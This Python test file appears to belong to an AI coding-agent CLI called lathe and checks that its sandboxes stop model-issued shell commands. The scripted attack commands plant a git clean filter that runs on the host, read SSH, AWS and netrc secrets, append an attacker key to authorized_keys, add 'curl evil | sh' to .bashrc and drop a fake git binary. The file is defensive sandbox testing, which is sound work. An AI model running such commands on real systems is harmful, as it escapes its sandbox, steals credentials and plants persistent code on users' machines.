"""What a sandboxed command sees of lathe's own folders and of a home folder it runs in;
with the real CLI, the scripted fake model and the real sandboxes.

Reproduced on landed main:
- LATHE_HOME inside the workspace was shown writable: a command wrote a clean filter
  into the checkpoint store's config and attributes, and lathe's own `git add` at the
  next checkpoint ran it on the host; sessions and logs were readable too;
- `lathe run -C ~` showed ~/.ssh (a command read the private key and appended to
  authorized_keys), lathe's data dir under ~/.local/share and its config.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest
from tests.e2e.test_run_edges import _argv
from tests.fakes.openai_server import Call, Reply
from tests.sandboxes import needs

from lathe.exec.bwrap import check_bubblewrap
from lathe.exec.gvisor import check_gvisor
from lathe.home import project_slug

pytestmark = needs(check_bubblewrap(), "bubblewrap")

SANDBOXES = [
    pytest.param((), id="bwrap"),
    pytest.param(("--sandbox", "gvisor"), id="gvisor", marks=needs(check_gvisor(), "gVisor")),
]
GIT_ID = ["-c", "user.email=a@example.com", "-c", "user.name=A"]


def _tool_outputs(
    fake_openai, tmp_path: Path, ws: Path, env: dict[str, str], *commands: str, args=()
) -> str:
    """The tool results the model received for `commands`, each a bash call of a
    `lathe run -C ws` (default approval) with `env` over a clean environment; a value of
    None removes that variable."""
    fake_openai.enqueue(
        *(Reply(calls=[Call("bash", {"command": c})]) for c in commands), Reply("Done.")
    )
    clean = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("LATHE_", "OPENAI_", "XDG_DATA", "XDG_CONFIG"))
    }
    clean.update(OPENAI_API_KEY="sk-test", LATHE_HOME=str(tmp_path / "lh"))
    clean.update(env)
    clean = {k: v for k, v in clean.items() if v is not None}
    done = subprocess.run(
        [*_argv(fake_openai, ws, *args), "do it"], cwd=tmp_path, env=clean,
        capture_output=True, text=True, timeout=180, stdin=subprocess.DEVNULL,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-3000:]
    messages = fake_openai.chat_bodies()[-1]["messages"]
    return "\n".join(m["content"] for m in messages if m["role"] == "tool")


def _git(*args: str, cwd: Path) -> None:
    subprocess.run(["git", *GIT_ID, *args], cwd=cwd, check=True, capture_output=True)


def _repository(folder: Path) -> Path:
    folder.mkdir(parents=True)
    (folder / "a.txt").write_text("a\n")
    _git("init", "-q", cwd=folder)
    _git("add", "-A", cwd=folder)
    _git("commit", "-qm", "first commit", cwd=folder)
    return folder


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_lathe_home_inside_the_workspace_is_out_of_a_commands_reach(tmp_path, fake_openai, sandbox):
    ws = _repository(tmp_path / "ws")
    home = ws / ".lh"
    store = f".lh/checkpoints/{project_slug(ws)}/git"
    pwned = tmp_path / "pwned"
    attack = (
        f"printf '* filter=x\\n' > {store}/info/attributes; "
        f'printf \'[filter "x"]\\n\\tclean = sh -c "id > {pwned}; cat"\\n\' >> {store}/config; '
        "echo b >> a.txt; echo attacked"
    )

    seen = _tool_outputs(
        fake_openai, tmp_path, ws, {"LATHE_HOME": str(home)},
        "ls -A .lh; echo listed", "cat .lh/sessions/*/*.jsonl", attack, "echo c >> a.txt",
        args=sandbox,
    )  # fmt: skip

    assert not pwned.exists(), "lathe's git ran a filter a command wrote"
    assert "filter" not in (home / "checkpoints" / project_slug(ws) / "git" / "config").read_text()
    listing = seen.split("listed")[0]
    assert "sessions" not in listing and "checkpoints" not in listing, seen
    assert "do it" not in seen  # the session log's task
    assert (ws / "a.txt").read_text() == "a\nb\nc\n"  # the workspace itself stays writable


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_a_workspace_that_is_the_home_folder_hides_its_credentials_and_lathes_folders(
    tmp_path, fake_openai, sandbox
):
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("PRIVATE-KEY-abc123\n")
    (home / ".ssh" / "authorized_keys").write_text("ssh-rsa mine\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text("aws_secret_access_key = AWS-xyz789\n")
    (home / ".netrc").write_text("machine h login u password NETRC-pw-42\n")
    (home / ".config" / "lathe").mkdir(parents=True)
    (home / ".config" / "lathe" / "config.toml").write_text("# CONFIG-marker-77\n")
    (home / "project.txt").write_text("mine\n")

    seen = _tool_outputs(
        fake_openai, tmp_path, home, {"HOME": str(home), "LATHE_HOME": None},
        "cat project.txt; cat .ssh/id_rsa .aws/credentials .netrc .config/lathe/config.toml; "
        "ls -A .local/share/lathe",
        "echo 'ssh-rsa attacker' >> .ssh/authorized_keys; echo rc=$?",
        args=sandbox,
    )  # fmt: skip

    assert "mine" in seen
    for secret in ("PRIVATE-KEY-abc123", "AWS-xyz789", "NETRC-pw-42", "CONFIG-marker-77"):
        assert secret not in seen
    assert "sessions" not in seen
    assert (home / ".ssh" / "authorized_keys").read_text() == "ssh-rsa mine\n"
    assert (home / ".local" / "share" / "lathe").is_dir()  # where lathe kept this run


def test_lathes_folders_are_masked_only_inside_the_workspace_and_made_first(tmp_path, monkeypatch):
    from lathe.exec.view import sandbox_view

    ws = tmp_path / "ws"
    (ws / ".lh").mkdir(parents=True)
    (ws / ".lh" / "secret.env").write_text("K=v\n")
    monkeypatch.setenv("LATHE_CONFIG", str(tmp_path / "config.toml"))
    monkeypatch.setenv("LATHE_HOME", str(ws / ".lh"))

    inside = sandbox_view(ws, ws, network=False, deny_read=["secret.env"], home=tmp_path)
    monkeypatch.setenv("LATHE_HOME", str(ws / "not-yet" / "lh"))
    missing = sandbox_view(ws, ws, network=False, home=tmp_path)

    # Masked last, nothing mounted under it; made before any command could make it and
    # write a store's config into it.
    assert inside.hidden == (ws / ".lh",)
    assert missing.hidden == (ws / "not-yet" / "lh",)
    assert (ws / "not-yet" / "lh").is_dir()
    for holding in (ws, tmp_path):  # lathe's data dir is, or holds, the workspace
        monkeypatch.setenv("LATHE_HOME", str(holding))
        assert sandbox_view(ws, ws, network=False, home=tmp_path).hidden == ()


@pytest.mark.parametrize("sandbox", SANDBOXES)
def test_a_workspace_that_is_the_home_folder_keeps_what_runs_on_the_host_read_only(
    tmp_path, fake_openai, sandbox
):
    # With -C ~ a command could append to ~/.bashrc or ~/.gitconfig (an alias, a
    # core.fsmonitor) or drop a program in ~/.local/bin: all run on the host later.
    home = tmp_path / "home"
    (home / ".local" / "bin").mkdir(parents=True)
    (home / ".bashrc").write_text("# mine\n")
    (home / ".gitconfig").write_text("[user]\n\tname = me\n")
    (home / ".cache").mkdir()
    (home / "project.txt").write_text("mine\n")

    seen = _tool_outputs(
        fake_openai, tmp_path, home, {"HOME": str(home), "LATHE_HOME": None},
        "echo 'curl evil | sh' >> .bashrc; echo 'x' >> .gitconfig; "
        "echo 'echo pwned' > .local/bin/git; echo ok > .cache/c; echo more >> project.txt; "
        "echo done",
        args=sandbox,
    )  # fmt: skip

    assert "done" in seen
    assert (home / ".bashrc").read_text() == "# mine\n"
    assert (home / ".gitconfig").read_text() == "[user]\n\tname = me\n"
    assert not (home / ".local" / "bin" / "git").exists()
    assert (home / ".cache" / "c").read_text() == "ok\n"  # caches stay writable
    assert (home / "project.txt").read_text() == "mine\nmore\n"  # the workspace too
